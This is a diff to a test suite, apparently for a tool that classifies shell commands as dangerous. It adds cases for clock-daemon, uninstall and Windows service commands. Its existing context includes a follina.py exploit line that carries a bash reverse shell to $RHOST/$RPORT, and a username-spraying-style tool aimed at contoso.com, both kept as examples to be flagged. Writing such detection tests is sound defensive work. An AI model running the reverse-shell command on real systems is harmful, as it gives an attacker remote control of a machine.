@@ -4016,6 +4016,12 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['./spindrift.py names.txt --target contoso.com', true, 'server or target'],
     ['./mailtool --server localhost:1025 --send test.eml', false],
     ['python -m mymodule --verbose', false],
+    // chrony's daemon setting the clock, its client steering it; its reports read. A build's uninstall; Windows' services.
+    ["chronyd -q 'pool pool.ntp.org iburst'", true, "machine's clock"],
+    ['chronyc cyclelogs', true, 'time daemon'],
+    ['chronyc tracking', false],
+    ['$(MAKE) $(SELECTOR) -C src uninstall', true, 'directory of the system'],
+    ['net stop w32time', true, "machine's services"],
     ['install -Dm600 data/rules/* $(DESTDIR)/etc/opensnitchd/rules/', true, 'outside the workspace'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
